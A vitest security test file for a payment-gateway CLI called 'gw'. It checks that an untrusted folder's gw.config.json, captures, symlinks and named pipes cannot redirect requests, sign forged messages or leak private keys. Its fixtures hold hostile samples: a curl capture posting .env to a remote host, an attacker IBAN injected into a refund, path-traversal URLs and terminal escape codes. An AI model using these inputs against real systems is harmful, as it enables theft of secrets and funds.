import { execFileSync } from 'node:child_process'
import { mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
import { Socket } from 'node:net'
import { join } from 'node:path'
import { testKeyPair } from '@gw/testkit'
import { describe, expect, it, onTestFinished, vi } from 'vitest'
import { COMMANDS } from '../src/commands/specs.ts'
import { createFolder, createKeyFolder, gw, gwBuilt, gwJson, startReceiver } from './gw.ts'

function writeConfig(cwd: string, settings: object): void {
  writeFileSync(join(cwd, 'gw.config.json'), JSON.stringify(settings))
}

const OPERANDS: Readonly<Record<string, readonly string[]>> = {
  'sandbox fault add': ['drop,on=responses'],
  'sandbox notify-url': ['http://127.0.0.1:1/notify'],
}

describe('gw in a folder that someone else wrote', () => {
  it('does not send to another machine because gw.config.json says so', async () => {
    const cwd = createFolder()
    writeConfig(cwd, { allowRemote: true })
    writeFileSync(join(cwd, 'capture.txt'), `curl -d '{}' http://192.0.2.1/notify`)
    const { code, stderr } = await gw(['replay', 'capture.txt'], { cwd })
    expect(code).toBe(2)
    expect(stderr).toContain('--allow-remote')
  })

  it.skipIf(process.platform === 'win32').each<[string, string, readonly string[]]>([
    ['running.json', '.gw-sandbox/running.json', ['sandbox', 'payments']],
    ['the merchant key', '.gw-sandbox/merchant-private.pem', ['sandbox', '--port', '0']],
    ['the gateway key', '.gw-sandbox/gateway-private-1.pem', ['sandbox', '--port', '0']],
    [
      'a key in gw.config.json',
      'pipe.pem',
      ['sign', '--client-id', 'A', '--target', '/x', '--body', 'gw.config.json'],
    ],
    ['a file of a capture', 'body.json', ['explain', 'capture.txt']],
    ['.env', '.env', ['keys', 'env', 'merchant-private.pem', '--out', '.env']],
  ])('does not wait for a named pipe in place of %s', async (_what, pipe, args) => {
    const cwd = createKeyFolder()
    mkdirSync(join(cwd, '.gw-sandbox'))
    execFileSync('mkfifo', [join(cwd, pipe)])
    writeConfig(cwd, { privateKey: 'pipe.pem' })
    writeFileSync(join(cwd, 'capture.txt'), 'curl -d @body.json http://127.0.0.1:1/notify')
    const { code, stderr } = await gw(args, { cwd })
    expect(code).toBe(2)
    expect(stderr).toContain('not a regular file')
  })

  it('does not send a file to another machine if a capture chose both', async () => {
    const cwd = createFolder()
    writeFileSync(join(cwd, '.env'), 'PASSWORD=secret')
    writeFileSync(join(cwd, 'capture.txt'), 'curl -d @.env http://192.0.2.1/notify')
    const connect = vi.spyOn(Socket.prototype, 'connect')
    onTestFinished(() => connect.mockRestore())
    const { code, stderr } = await gw(['replay', 'capture.txt', '--allow-remote'], { cwd })
    expect(code).toBe(2)
    expect(stderr).toContain('Pass --to')
    expect(connect).not.toHaveBeenCalled()
  })

  it.each(['DELETE', 'PUT', 'GET'])('does not replay a %s request', async (method) => {
    const cwd = createFolder()
    const { origin, bodies } = await startReceiver()
    writeFileSync(join(cwd, 'capture.txt'), `curl -X ${method} -d '{}' ${origin}/_all`)
    const { code, stderr } = await gw(['replay', 'capture.txt'], { cwd })
    expect(code).toBe(2)
    expect(stderr).toContain(`its method is ${method} instead of POST`)
    expect(bodies).toEqual([])
  })

  it('does not read a file thousands of times because a capture says so', async () => {
    const cwd = createFolder()
    writeFileSync(join(cwd, 'body.json'), 'Z'.repeat(1_000_000))
    const command = `curl http://127.0.0.1:1/notify ${'-d @body.json '.repeat(4_000)}`
    writeFileSync(join(cwd, 'capture.txt'), command)
    const { code, stderr } = await gw(['explain', 'capture.txt'], { cwd })
    expect(code).toBe(2)
    expect(stderr).toContain('more than 16777216 bytes together')
    expect(stderr.match(/gw: read/g)).toHaveLength(1)
  })

  it('does not replace a private key because gw.config.json says so', async () => {
    const cwd = createFolder()
    writeFileSync(join(cwd, 'gw-private.pem'), 'precious')
    writeConfig(cwd, { force: true })
    expect((await gw(['keys', 'new'], { cwd })).code).toBe(2)
    expect(readFileSync(join(cwd, 'gw-private.pem'), 'utf8')).toBe('precious')
  })

  it('does not write a file that gw.config.json names', async () => {
    const cwd = createKeyFolder()
    writeConfig(cwd, { out: '.bashrc', format: 'pkcs8-pem' })
    expect((await gw(['keys', 'convert', 'merchant-private.pem'], { cwd })).code).toBe(2)
  })

  it('does not append a private key to a file that .env is a link to', async () => {
    const cwd = createKeyFolder()
    writeFileSync(join(cwd, 'served.txt'), 'public\n', { mode: 0o644 })
    symlinkSync('served.txt', join(cwd, '.env'))
    const args = ['keys', 'env', 'merchant-private.pem', '--out', '.env']
    const { code, stderr } = await gw(args, { cwd })
    expect(code).toBe(2)
    expect(stderr).toContain('link')
    expect(readFileSync(join(cwd, 'served.txt'), 'utf8')).toBe('public\n')
    expect(statSync(join(cwd, 'served.txt')).mode & 0o777).toBe(0o644)
  })

  it.each([
    ['gw keys new', ['keys', 'new', 'out/shop']],
    ['gw keys env', ['keys', 'env', 'merchant-private.pem', '--out', 'out/.env']],
    [
      'gw keys convert',
      ['keys', 'convert', 'merchant-private.pem', '--format', 'jwk', '--out', 'out/key', '--force'],
    ],
  ])('does not write a private key to a folder that is a link: %s', async (_command, args) => {
    const cwd = createKeyFolder()
    const outside = createFolder()
    symlinkSync(outside, join(cwd, 'out'))
    const { code, stderr } = await gw(args, { cwd })
    expect(code).toBe(2)
    expect(stderr).toContain('link')
    expect(readdirSync(outside)).toEqual([])
  })

  it('does not sign with a key outside the folder because gw.config.json names it', async () => {
    const cwd = createFolder()
    const { url, bodies } = await startReceiver()
    writeConfig(cwd, { gatewayKey: join(createKeyFolder(), 'merchant-private.pem'), clientId: 'X' })
    expect((await gw(['trigger', 'notifyPayment', '--to', url], { cwd })).code).toBe(2)
    expect(bodies).toEqual([])
  })

  it('does not call another machine because gw.config.json names it as the host', async () => {
    const cwd = createKeyFolder()
    writeConfig(cwd, { host: 'https://gateway.invalid', clientId: 'X', publicKey: 'gateway.pem' })
    const args = ['call', 'inquiryPayment', '--payment-id', '1']
    const env = { GW_PRIVATE_KEY_FILE: 'merchant-private.pem' }
    const { code, stderr } = await gw(args, { cwd, env })
    expect(code).toBe(2)
    expect(stderr).toContain('--host')
  })

  const refund = [
    'refund',
    ...['--set', 'paymentId=1', '--set', 'refundRequestId=R1'],
    ...['--set', 'refundAmount.currency=EUR', '--set', 'refundAmount.value=100'],
  ]
  it.each<[string, readonly string[], object]>([
    ['adds a bank account to a refund', refund, { body: 'notes.json' }],
    [
      'adds the payment of someone else to a cancellation',
      ['cancelPayment', '--payment-request-id', 'ORDER_A'],
      { paymentId: 'PAYMENT_OF_SOMEONE_ELSE' },
    ],
    [
      'adds a request ID to an inquiry',
      ['inquiryPayment', '--payment-id', '1'],
      { paymentRequestId: 'ORDER_B' },
    ],
    ['moves a call to production', refund, { environment: 'production' }],
    ['moves a call to another scenario', refund, { scenario: 'inStore' }],
    [
      'sets fields',
      ['inquiryPayment', '--body', 'own.json'],
      { set: ['paymentId=PAYMENT_OF_SOMEONE_ELSE'] },
    ],
    ['answers for you', refund, { yes: true }],
  ])('does not send a call if gw.config.json %s', async (_what, typed, settings) => {
    const cwd = createKeyFolder()
    const { origin, bodies } = await startReceiver()
    writeFileSync(join(cwd, 'own.json'), '{"paymentId":"1"}')
    const attack = { refundToBankInfo: { accountNo: 'ATTACKER-IBAN' } }
    writeFileSync(join(cwd, 'notes.json'), JSON.stringify(attack))
    writeConfig(cwd, settings)
    const env = {
      GW_HOST: origin,
      GW_CLIENT_ID: 'X',
      GW_PRIVATE_KEY_FILE: 'merchant-private.pem',
      GW_PUBLIC_KEY_FILE: 'gateway.pem',
    }
    for (const run of [gw, gwBuilt]) {
      const { code, stderr } = await run(['call', ...typed], { cwd, env })
      expect({ code, bodies }).toEqual({ code: 2, bodies: [] })
      expect(stderr).toContain(`gw.config.json:1:2: ${Object.keys(settings)[0]} cannot be set`)
    }
    writeConfig(cwd, {})
    expect((await gw(['call', ...typed], { cwd, env })).code).toBe(1)
    expect(bodies).not.toEqual([])
  })

  it.each<[string, object]>([
    ['the body', { body: 'notes.json' }],
    ['the path', { target: '/ams/api/v1/payments/refund' }],
    ['the method', { method: 'PUT' }],
    ['the time', { time: '1794719112199' }],
  ])('does not sign %s that gw.config.json contains', async (_what, settings) => {
    const cwd = createKeyFolder()
    writeFileSync(join(cwd, 'own.json'), '{"paymentId":"1"}')
    writeConfig(cwd, { ...settings, clientId: 'X', privateKey: 'merchant-private.pem' })
    const args = ['sign', '--target', '/a', '--body', 'own.json']
    const { code, stdout } = await gw(args, { cwd })
    expect({ code, stdout }).toEqual({ code: 2, stdout: '' })
  })

  it.each<[string, readonly string[], object]>([
    ['the URL of gw trigger', ['trigger', 'notifyPayment'], { to: 'URL' }],
    ['the body of gw trigger', ['trigger', 'notifyPayment', '--to', 'URL'], { body: 'b.json' }],
    ['the fields of gw trigger', ['trigger', 'notifyPayment', '--to', 'URL'], { set: 'a=1' }],
    ['the URL of gw replay', ['replay', 'capture.txt'], { to: 'URL' }],
    ['the body of gw replay', ['replay', 'capture.txt', '--to', 'URL'], { body: 'b.json' }],
    ['the signature of gw replay', ['replay', 'capture.txt', '--to', 'URL'], { signAnew: true }],
    ['the notify URL of gw sandbox', ['sandbox', '--port', '0'], { notifyUrl: 'URL' }],
    ['the data file of gw sandbox', ['sandbox', '--port', '0'], { data: 'b.json' }],
    [
      'the amount of gw sandbox pay',
      ['sandbox', 'pay', '1', '--host', 'ORIGIN'],
      { amount: 'EUR:1' },
    ],
    [
      'the result of gw sandbox fail',
      ['sandbox', 'fail', '1', '--host', 'ORIGIN'],
      { code: 'RISK_REJECT' },
    ],
    ['the probe of gw doctor', ['doctor', 'URL'], { probe: 'URL' }],
  ])('does not take %s from gw.config.json', async (_what, args, settings) => {
    const cwd = createKeyFolder()
    const { url, origin, bodies } = await startReceiver()
    const fill = (text: string) => text.replace('URL', url).replace('ORIGIN', origin)
    writeFileSync(join(cwd, 'capture.txt'), `curl -d '{}' http://127.0.0.1:9/notify`)
    writeFileSync(join(cwd, 'b.json'), '{}')
    writeFileSync(join(cwd, 'gw.config.json'), fill(JSON.stringify(settings)))
    const env = { GW_GATEWAY_KEY_FILE: 'gateway-private.pem', GW_CLIENT_ID: 'X' }
    const around = { cwd, env, signal: AbortSignal.abort() }
    const { code, stderr } = await gw(args.map(fill), around)
    expect({ code, bodies }).toEqual({ code: 2, bodies: [] })
    expect(stderr).toContain(`gw.config.json:1:2: ${Object.keys(settings)[0]} cannot be set`)
  })

  it('does not verify a different message from the typed one because gw.config.json contains it', async () => {
    const cwd = createKeyFolder()
    writeFileSync(join(cwd, 'good.json'), '{"paymentId":"1"}')
    const signing = ['sign', '--target', '/notify', '--client-id', 'X', '--body', 'good.json']
    const { json } = await gwJson([...signing, '--private-key', 'gateway-private.pem'], { cwd })
    const { 'Request-Time': time, Signature: signature } = json.headers
    const typed = `POST /notify HTTP/1.1\nclient-id: X\nrequest-time: 1\nsignature: s\n\n{}`
    writeFileSync(join(cwd, 'typed.txt'), typed)
    writeConfig(cwd, {
      body: 'good.json',
      header: [`request-time: ${time}`, `signature: ${signature}`],
    })
    const args = ['verify', 'typed.txt', '--public-key', 'gateway.pem', '--client-id', 'X']
    expect((await gw(args, { cwd })).code).toBe(2)
  })

  it.each(['/_all?x=', '/_all/', '?x=', '#x', '/%2e%2e/x'])(
    'does not send to a path of another local service: %s',
    async (path) => {
      const { origin, bodies } = await startReceiver()
      const inFile = createFolder()
      writeConfig(inFile, { host: `${origin}${path}` })
      const inFolder = createFolder()
      mkdirSync(join(inFolder, '.gw-sandbox'))
      const running = JSON.stringify({ url: `${origin}${path}`, clientId: 'X' })
      writeFileSync(join(inFolder, '.gw-sandbox', 'running.json'), running)
      for (const cwd of [inFile, inFolder]) {
        for (const command of ['fault clear', 'pay', 'resend', 'payments']) {
          expect((await gw(['sandbox', ...command.split(' ')], { cwd })).code).toBe(2)
        }
      }
      expect((await gwBuilt(['sandbox', 'fault', 'clear'], { cwd: inFolder })).code).toBe(2)
      const args = ['sandbox', 'fault', 'clear', '--host', `${origin}${path}`]
      expect((await gw(args)).code).toBe(2)
      expect(bodies).toEqual([])
    },
  )

  it.each([
    ['another machine', '{"url":"http://192.0.2.1:4600","clientId":"X"}'],
    ['no URL', '{"clientId":"X"}'],
    ['not JSON', '{'],
  ])('does not use a running.json that names %s', async (_what, text) => {
    const connect = vi.spyOn(Socket.prototype, 'connect')
    onTestFinished(() => connect.mockRestore())
    const cwd = createFolder()
    mkdirSync(join(cwd, '.gw-sandbox'))
    writeFileSync(join(cwd, '.gw-sandbox', 'running.json'), text)
    const { code, stderr } = await gw(['sandbox', 'payments'], { cwd })
    expect(code).toBe(2)
    expect(stderr).toContain('running.json')
    expect(connect).not.toHaveBeenCalled()
  })

  it.each<[string, (cwd: string) => void]>([
    ['no sandbox was started', () => {}],
    [
      'the sandbox has ended',
      (cwd) => {
        mkdirSync(join(cwd, '.gw-sandbox'))
        const { privatePem } = testKeyPair('merchant')
        writeFileSync(join(cwd, '.gw-sandbox', 'merchant-private.pem'), privatePem)
      },
    ],
  ])('does not control the sandbox of another folder if %s', async (_what, arrange) => {
    const connect = vi.spyOn(Socket.prototype, 'connect')
    onTestFinished(() => connect.mockRestore())
    for (const { name } of COMMANDS.filter((spec) => spec.name.startsWith('sandbox '))) {
      const cwd = createFolder()
      arrange(cwd)
      const operands = OPERANDS[name] ?? []
      const { code, stderr } = await gw([...name.split(' '), ...operands], { cwd })
      expect({ name, code }).toEqual({ name, code: 2 })
      expect(stderr).toContain('--host')
    }
    expect(connect).not.toHaveBeenCalled()
  })

  const keyFile = 'gateway-private-1.pem'
  it.each<[string, (cwd: string, outside: string) => void]>([
    [
      'a file in .gw-sandbox',
      (cwd, outside) => {
        mkdirSync(join(cwd, '.gw-sandbox'))
        symlinkSync(join(outside, keyFile), join(cwd, '.gw-sandbox', keyFile))
      },
    ],
    ['.gw-sandbox', (cwd, outside) => symlinkSync(outside, join(cwd, '.gw-sandbox'))],
    [
      'a file in the keys folder of gw.config.json',
      (cwd, outside) => {
        writeConfig(cwd, { keys: 'k' })
        mkdirSync(join(cwd, 'k'))
        symlinkSync(join(outside, keyFile), join(cwd, 'k', keyFile))
      },
    ],
  ])('does not sign with a key outside the folder if %s is a link', async (_what, arrange) => {
    const cwd = createFolder()
    const outside = createFolder()
    writeFileSync(join(outside, keyFile), testKeyPair('merchant').privatePem)
    arrange(cwd, outside)
    const { url, bodies } = await startReceiver()
    expect((await gw(['trigger', 'notifyPayment', '--to', url], { cwd })).code).toBe(2)
    expect(bodies).toEqual([])
    const around = { cwd, signal: AbortSignal.abort() }
    expect((await gw(['sandbox', '--port', '0'], around)).code).toBe(2)
    expect(readFileSync(join(outside, keyFile), 'utf8')).toBe(testKeyPair('merchant').privatePem)
  })

  it('shows control characters in the names and values of gw.config.json', async () => {
    const cwd = createFolder()
    writeConfig(cwd, { '\u001b]0;x\u0007': 1, scenario: '\u001b[2J' })
    const { stderr } = await gw(['call', 'inquiryPayment', '--payment-id', '1'], { cwd })
    expect(stderr).toContain('␛')
    expect(stderr).not.toMatch(/[^\P{Cc}\n]/u)
  })
})
